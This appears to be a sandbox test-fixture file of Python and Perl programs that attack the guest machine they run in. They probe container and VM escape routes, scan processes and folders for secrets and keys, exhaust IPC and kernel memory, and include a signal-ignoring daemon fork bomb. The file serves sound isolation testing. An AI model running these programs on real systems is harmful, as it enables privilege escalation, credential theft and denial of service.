"""Programs that attack the machine they run in, for tests that run them as commands in a guest. Each is Python source for
`python3 a/NAME.py` in the working directory; what it prints says how far it came. Nothing here is run on the host."""

# Everything a worker might try on the agent and its machine. A line "DONE what" is a hole.
REACH = r'''
import ctypes, fcntl, mmap, os, signal, socket, stat, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p

def attempt(name, what):
    try:
        value = what()
    except (OSError, ValueError) as error:
        print("refused", name, getattr(error, "errno", error))
        return
    print("DONE", name, value)

def call(number, *args):
    ctypes.set_errno(0)
    value = libc.syscall(number, *(ctypes.c_long(a) if isinstance(a, int) else a for a in args))
    if value < 0:
        raise OSError(ctypes.get_errno(), "")
    return value

def code(data, *args):
    """Runs machine code: calls of the 32-bit table, made from 64-bit code."""
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(data)
    value = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    if value < 0:
        raise OSError(-value, "")
    return value

def int80(number, b, c, d):
    return code(b"\x53\xb8" + struct.pack("<I", number) + b"\xbb" + struct.pack("<I", b) + b"\xb9" + struct.pack("<I", c) +
                b"\xba" + struct.pack("<I", d) + b"\xcd\x80\x5b\xc3")

def mknod(kind, major, minor):
    path = "/tmp/node%d-%d" % (major, minor)
    os.mknod(path, kind | 0o666, os.makedev(major, minor))
    return path

for family in (40, 17, 38):
    attempt("socket %d" % family, lambda: socket.socket(family, socket.SOCK_STREAM))
    attempt("socketpair %d" % family, lambda: call(53, family, 1, 0, (ctypes.c_int * 2)()) if family != 38 else call(41, 38, 5, 0))
attempt("socket high half", lambda: call(41, ctypes.c_uint64(0x100000028), 1, 0))
attempt("socket x32", lambda: call(0x40000000 + 41, 40, 1, 0))
attempt("socket int80", lambda: int80(359, 40, 1, 0))
attempt("getuid int80", lambda: int80(24, 0, 0, 0))
attempt("io_uring", lambda: call(425, 8, ctypes.create_string_buffer(256)))
for name in os.listdir("/sys/class/virtio-ports") if os.path.isdir("/sys/class/virtio-ports") else []:
    major, minor = map(int, open("/sys/class/virtio-ports/%s/dev" % name).read().split(":"))
    attempt("mknod channel", lambda: mknod(stat.S_IFCHR, major, minor))
for path in ("vport0p0", "vport0p1", "hvc0", "vda", "mem", "kmem", "port", "kmsg", "console", "ttyS0", "nvram", "fuse", "kvm", "loop0", "vsock", "vhost-vsock"):
    attempt("/dev/" + path, lambda: os.open("/dev/" + path, os.O_RDWR))
attempt("mknod disk", lambda: mknod(stat.S_IFBLK, 254, 0))
attempt("mknod mem", lambda: mknod(stat.S_IFCHR, 1, 1))
for path in ("environ", "mem", "maps", "auxv", "syscall", "stack", "io", "pagemap", "root/etc/passwd", "cwd/etc/passwd", "fd/0", "fd/3", "exe", "map_files", "mountinfo2"):
    attempt("/proc/1/" + path, lambda: open("/proc/1/" + path, "rb").read(1))
attempt("/proc/1/fd", lambda: os.listdir("/proc/1/fd"))
attempt("readlink exe", lambda: os.readlink("/proc/1/exe"))
attempt("ptrace 1", lambda: call(101, 16, 1, 0, 0))
attempt("ptrace seize 1", lambda: call(101, 0x4206, 1, 0, 0))
attempt("process_vm_readv 1", lambda: call(310, 1, (ctypes.c_size_t * 2)(id(call), 8), 1, (ctypes.c_size_t * 2)(0x400000, 8), 1, 0))
attempt("pidfd_getfd 1", lambda: call(438, os.pidfd_open(1), 3, 0))
attempt("process_madvise 1", lambda: call(440, os.pidfd_open(1), (ctypes.c_size_t * 2)(0x400000, 4096), 1, 21, 0))
attempt("kcmp 1", lambda: call(312, 1, os.getpid(), 0, 0, 0))
for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGSEGV, signal.SIGCHLD, signal.SIGPWR):
    attempt("kill 1 %d" % number, lambda: os.kill(1, number))
attempt("setpriority 1", lambda: os.setpriority(os.PRIO_PROCESS, 1, 19))
attempt("affinity 1", lambda: os.sched_setaffinity(1, {0}))
attempt("prlimit 1", lambda: call(302, 1, 7, (ctypes.c_uint64 * 2)(0, 0), 0))
attempt("fifo", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)))
attempt("rr 1", lambda: os.sched_setscheduler(1, os.SCHED_RR, os.sched_param(1)))
attempt("deadline", lambda: call(314, 0, struct.pack("<IIQiIQQQ", 48, 6, 0, 0, 0, 10**7, 10**8, 10**8), 0))
attempt("nice -5", lambda: os.setpriority(os.PRIO_PROCESS, 0, -5))
attempt("ionice rt", lambda: call(251, 1, 0, 1 << 13))
attempt("oom_score_adj", lambda: os.write(os.open("/proc/self/oom_score_adj", os.O_WRONLY), b"-1"))
attempt("oom of 1", lambda: os.open("/proc/1/oom_score_adj", os.O_WRONLY))
for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/panic", "/proc/sys/vm/drop_caches",
             "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/worker/cgroup.procs", "/sys/fs/cgroup/worker/memory.max", "/sys/fs/cgroup/worker/cgroup.freeze",
             "/sys/power/state", "/etc/passwd", "/etc/ld.so.preload", "/init", "/usr/bin/bash", "/bin/new", "/run/x", "/dev/x", "/tmp/../x", "/proc/kcore",
             "/proc/kmsg", "/sys/kernel/debug", "/sys/module/virtio_console/uevent"):
    attempt("write " + path, lambda: os.open(path, os.O_WRONLY | (os.O_CREAT if path.startswith(("/etc", "/init", "/bin", "/run", "/dev", "/tmp", "/usr")) else 0)))
cgroup = "/sys/fs/cgroup" + open("/proc/self/cgroup").read().strip().split("::")[1]
attempt("mkdir cgroup", lambda: os.mkdir(cgroup + "/x"))
attempt("leave cgroup", lambda: os.open("/sys/fs/cgroup/cgroup.procs", os.O_WRONLY))
attempt("clone into cgroup", lambda: call(435, struct.pack("<11Q", 0x200000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, os.open("/sys/fs/cgroup", os.O_RDONLY)), 88))
attempt("mount", lambda: call(165, b"x", b"/tmp", b"tmpfs", 0, 0))
attempt("remount", lambda: call(165, b"x", b"/", b"", 32, 0))
attempt("umount", lambda: call(166, b"/proc", 2))
attempt("fsopen", lambda: call(430, b"tmpfs", 0))
attempt("open_tree", lambda: call(428, -100, b"/", 1))
attempt("move_mount", lambda: call(429, -100, b"/tmp", -100, b"/home", 0))
attempt("pivot_root", lambda: call(155, b"/tmp", b"/tmp"))
attempt("chroot", lambda: os.chroot("/tmp"))
for flag in (0x10000000, 0x20000, 0x40000000, 0x8000000, 0x2000000, 0x4000000, 0x20000000, 0x80):
    attempt("unshare %x" % flag, lambda: call(272, flag))
    attempt("setns %x" % flag, lambda: call(308, os.open("/proc/self/ns/mnt", os.O_RDONLY), flag))
for number, name in ((175, "init_module"), (313, "finit_module"), (176, "delete_module"), (246, "kexec_load"), (320, "kexec_file_load"), (321, "bpf"),
                     (298, "perf_event_open"), (248, "add_key"), (249, "request_key"), (250, "keyctl"), (323, "userfaultfd"), (304, "open_by_handle_at"),
                     (103, "syslog"), (163, "acct"), (167, "swapon"), (169, "reboot"), (170, "sethostname"), (227, "clock_settime"), (172, "iopl"),
                     (173, "ioperm"), (179, "quotactl"), (212, "lookup_dcookie"), (300, "fanotify_init"), (153, "vhangup"), (105, "setuid"), (106, "setgid")):
    attempt(name, lambda: call(number, *((0xfee1dead, 672274793, 0x4321fedc, 0) if name == "reboot" else (3, 0, 0, 0) if name == "iopl" else (0, 0, 0, 0)
                                         if name in ("setuid", "setgid", "keyctl", "bpf", "clock_settime") else (1, 8, 1, 0))))
attempt("setgroups", lambda: os.setgroups([0]))
attempt("setxattr", lambda: (open("x", "w").close(), os.setxattr("x", "user.a", b"1")))
attempt("capability", lambda: os.setxattr("x", "security.capability", struct.pack("<5I", 0x02000001, 0xffffffff, 0, 0xffffffff, 0)))
attempt("nofile", lambda: __import__("resource").setrlimit(7, (1 << 20, 1 << 20)))
attempt("memlock", lambda: __import__("resource").setrlimit(8, (-1, -1)))
attempt("chown", lambda: os.chown("x", 0, 0))
attempt("hard link", lambda: os.link("/etc/shadow", "shadow"))
attempt("shadow", lambda: open("/etc/shadow").read())
attempt("rename workdir", lambda: os.rename(os.getcwd(), "/tmp/elsewhere"))
attempt("rmdir workdir", lambda: os.rmdir(os.getcwd()))
attempt("rename above", lambda: os.rename(os.path.dirname(os.getcwd()), "/tmp/elsewhere"))
attempt("TIOCSTI", lambda: fcntl.ioctl(0, 0x5412, b"x"))
attempt("net admin", lambda: fcntl.ioctl(socket.socket(), 0x8914, struct.pack("16sh", b"lo", 0)))
attempt("raw socket", lambda: socket.socket(2, 3, 1))
attempt("connect out", lambda: socket.create_connection(("10.0.2.2", 53), 2))
print("tried all")
'''

# Looks for secrets wherever a process can look. Prints what looks like one.
SECRETS = r'''
import os, re
found = []
word = re.compile(rb"(?i)(api[_-]?key|secret|token|password|passwd|credential|bearer|sk-[a-z0-9]{8}|eph_[a-z0-9]|BEGIN [A-Z ]*PRIVATE KEY)")
places = ["/proc/cmdline", "/proc/self/environ"] + ["/proc/%s/%s" % (p, f) for p in os.listdir("/proc") if p.isdigit() for f in ("environ", "cmdline")]
for top in ("/run", "/tmp", "/home", "/root", "/dev/shm", "/var/tmp", "/var/log", "/var/spool", "/var/mail", "/m", "/modules", "/sys/firmware", "/opt", "/srv"):
    for folder, _, files in os.walk(top):
        places += [os.path.join(folder, f) for f in files]
for path in places:
    try:
        with open(path, "rb") as f:
            data = f.read(1 << 20)
    except OSError:
        continue
    if "/scratch/a/" in path or b"a/secrets.py" in data[:200]:
        continue
    found += ["%s: %r" % (path, m.group(0)) for m in word.finditer(data)]
print("looked at", len(places) > 50, found)
print("leftovers", [p for p in ("/init", "/m", "/modules", "/modules.load") if os.path.lexists(p)])
setid, capable = [], []
for folder, _, files in os.walk("/"):
    if folder.startswith(("/proc", "/sys")):
        continue
    for name in files:
        path = os.path.join(folder, name)
        try:
            mode = os.lstat(path).st_mode
            if mode & 0o6000:
                setid.append(path)
            if mode & 0o111 and "security.capability" in os.listxattr(path, follow_symlinks=False):
                capable.append(path)
        except OSError:
            pass
print("setid", setid, "capable", capable)
'''

# Shared memory, queues, semaphores that nobody removes: as much as there is.
IPC = r'''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for n in range(24):
    at = libc.shmat(libc.shmget(0, 8 << 20, 0o1600), None, 0)
    ctypes.memset(at, 1, 8 << 20)
message = ctypes.create_string_buffer(b"\1" * 8200)
for n in range(100):
    queue = libc.msgget(0, 0o1600)
    while libc.msgsnd(queue, message, 8000, 0o4000) == 0:
        pass
    libc.semget(0, 1000, 0o1600)
print("left behind", len(open("/proc/sysvipc/shm").readlines()) + len(open("/proc/sysvipc/msg").readlines()) > 100)
'''

# Memory of the kernel that counts against no group: lists of a folder that are read anew for each descriptor, and kept with it.
UNCOUNTED = r'''
import os
folder = "/var/tmp"
counted = bytearray(150 << 20)  # within the limit, so that less of the other kind is needed
with open("/tmp/big", "wb") as f:
    for n in range(100):
        f.write(bytes(1 << 20))
for n in range(15000):
    os.close(os.open(folder + "/%05d" % n + "n" * 200, os.O_CREAT))
kept, free = [], 0
print("filled", flush=True)
while True:
    fd = os.open(folder, os.O_RDONLY)
    it = os.scandir(fd)
    next(it)
    kept.append((fd, it))
    os.close(os.open(folder + "/again", os.O_CREAT))
    os.unlink(folder + "/again")
    if len(kept) % 10 == 0:
        print(open("/proc/meminfo").read().split()[7], flush=True)
'''

# All byte values and characters of every length, one byte a write, on both streams at once.
BYTES = r'''
import os
one = bytes(range(256)) * 8 + "é€𝄞\x1b[31m\x00".encode() * 400
two = "\U0001f600ß\r\n".encode() * 500 + b"\xff\xfe\xc0\x80\xed\xa0\x80\xf4\x90\x80\x80" * 50 + "é".encode()[:1]
for n in range(max(len(one), len(two))):
    if n < len(one):
        os.write(1, one[n:n + 1])
    if n < len(two):
        os.write(2, two[n:n + 1])
'''

# Leaves its output's pipe in flight inside a ring of sockets that only the kernel's collector can find.
IN_FLIGHT = r'''
import array, os, socket
for n in range(20):
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    for s in (a, b):
        s.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [1, 2, a.fileno(), b.fileno()]))])
print("sent", flush=True)
'''

# Orphans, 100 at once, as many hundreds as its argument says; each ends when its parent has, and is PID 1's. Perl's processes are small.
ORPHANS = r'''
use POSIX ();
for (1 .. $ARGV[0]) {
	pipe my $wait, my $hold; # its end comes when the parent of the hundred is gone
	pipe my $all, my $each;  # its end comes when the hundred are gone
	my $p = fork;
	if (!$p) {
		for (1 .. 100) {
			my $q = fork;
			die "fork: $!" unless defined $q;
			next if $q;
			close $hold;
			sysread $wait, my $byte, 1;
			POSIX::_exit(getppid() == 1 ? 0 : 1);
		}
		POSIX::_exit(0);
	}
	close $hold;
	close $each;
	waitpid $p, 0;
	die "failed" if $?;
	sysread $all, my $byte, 1;
}
print "orphans made\n";
'''

# A fork bomb whose processes are daemons and ignore every signal.
DAEMONS = r'''
use POSIX ();
$SIG{$_} = "IGNORE" for grep { !/^(KILL|STOP|NUM|CLD|CHLD)/ } keys %SIG;
while (1) { my $p = fork; if (defined $p && !$p) { POSIX::setsid(); } }
'''

FILES = [(f"a/{name}", text.encode()) for name, text in {
    "reach.py": REACH, "secrets.py": SECRETS, "ipc.py": IPC, "uncounted.py": UNCOUNTED, "bytes.py": BYTES, "in_flight.py": IN_FLIGHT,
    "orphans.pl": ORPHANS, "daemons.pl": DAEMONS}.items()]


def both_streams():
    """What bytes.py writes to stdout and to stderr."""
    one = bytes(range(256)) * 8 + "é€𝄞\x1b[31m\x00".encode() * 400
    two = "\U0001f600ß\r\n".encode() * 500 + b"\xff\xfe\xc0\x80\xed\xa0\x80\xf4\x90\x80\x80" * 50 + "é".encode()[:1]
    return one, two
